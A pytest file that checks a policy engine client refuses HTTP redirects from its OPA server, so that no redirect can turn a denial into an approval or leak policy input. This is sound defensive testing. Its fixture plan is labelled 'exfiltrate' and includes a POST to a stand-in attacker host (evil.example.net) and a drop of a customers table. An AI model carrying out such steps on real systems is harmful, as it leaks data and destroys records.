"""An OPA server that answers with a redirect gets an engine error, never a verdict.

requests followed redirects: a 301, 302 or 303 turned the POST of a decision query into a
GET without its body, which OPA answers by evaluating the rules with no input (nothing to
deny, risk 0, no approval: an allow), and a 307 or 308 sent the policy input to whatever
host the ``Location`` named. Every 3xx is refused, for queries, step checks and pushes alike.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from planner.plan import Plan
from policies.contracts import PolicyContext, Requester
from policies.inputs import build_policy_input, step_call_for
from policies.opa import OpaEngine
from tests.support.fake_opa import FakeOpa
from tests.support.policy_tools import policy_registry

REDIRECTS = (301, 302, 303, 307, 308)
ALICE = Requester(id="alice", roles=("analyst",))
POST_ARGS = {"method": "POST", "url": "https://evil.example.net/x", "json": {"a": 1}}
RISKY_PLAN = Plan.model_validate({"goal": "exfiltrate", "steps": [
    {"id": "post", "tool": "http.request", "args": POST_ARGS},
    {"id": "drop", "tool": "db.drop_table", "args": {"table": "customers"}}]})
RISKY_INPUT = build_policy_input(RISKY_PLAN, policy_registry(), requester=ALICE,
                                 context=PolicyContext(now=datetime(2024, 6, 4, 12, tzinfo=UTC)))
RISKY_CALL = step_call_for(RISKY_PLAN, "post", POST_ARGS, policy_registry(), run_id="r",
                           plan_id="p", requester=ALICE)


@pytest.fixture
def target(bundle) -> Iterator[FakeOpa]:
    """An OPA that already holds the bundle: where a followed redirect would be judged."""
    with FakeOpa() as server:
        engine = OpaEngine(bundle, server.url, timeout_s=60.0)
        assert not engine.decide(RISKY_INPUT).allow
        assert not engine.check_step(RISKY_CALL).allow
        yield server


@pytest.fixture
def front() -> Iterator[FakeOpa]:
    """The server Baton is configured with; the tests make it redirect."""
    with FakeOpa() as server:
        yield server


def _assert_refused(deny: tuple[str, ...], status: int) -> None:
    assert len(deny) == 1, deny
    assert deny[0].startswith("policy engine error: "), deny
    assert f"HTTP {status}" in deny[0] and "redirects are refused" in deny[0], deny


@pytest.mark.parametrize("status", REDIRECTS)
def test_a_redirected_decision_query_is_denied_and_not_followed(bundle, target, front, status):
    engine = OpaEngine(bundle, front.url, timeout_s=60.0)
    engine.load()
    front.redirect = (status, target.url)
    seen = len(target.requests)
    decision = engine.decide(RISKY_INPUT)
    assert not decision.allow
    _assert_refused(decision.deny, status)
    assert target.requests[seen:] == []  # neither the query nor the input went there


@pytest.mark.parametrize("status", REDIRECTS)
def test_a_redirected_step_check_is_denied_and_not_followed(bundle, target, front, status):
    engine = OpaEngine(bundle, front.url, timeout_s=60.0)
    engine.load()
    front.redirect = (status, target.url)
    seen = len(target.requests)
    verdict = engine.check_step(RISKY_CALL)
    assert not verdict.allow
    _assert_refused(verdict.deny, status)
    assert target.requests[seen:] == []


@pytest.mark.parametrize("status", REDIRECTS)
def test_a_redirected_push_is_denied_and_not_followed(bundle, target, front, status):
    front.redirect = (status, target.url)
    seen = len(target.requests)
    decision = OpaEngine(bundle, front.url, timeout_s=60.0).decide(RISKY_INPUT)
    assert not decision.allow
    _assert_refused(decision.deny, status)
    assert target.requests[seen:] == []
    assert front.policies == {} and front.data == {}


def test_the_refusal_names_where_it_was_sent_without_credentials(bundle, front):
    front.redirect = (302, "https://opa-admin:Hunter2Hunter2@opa.example:8443/gw?token=T0kenT0ken")
    decision = OpaEngine(bundle, front.url, timeout_s=60.0).decide(RISKY_INPUT)
    _assert_refused(decision.deny, 302)
    assert "https://opa-admin:***@opa.example:8443/gw" in decision.deny[0]
    assert "Hunter2" not in decision.deny[0] and "T0ken" not in decision.deny[0]
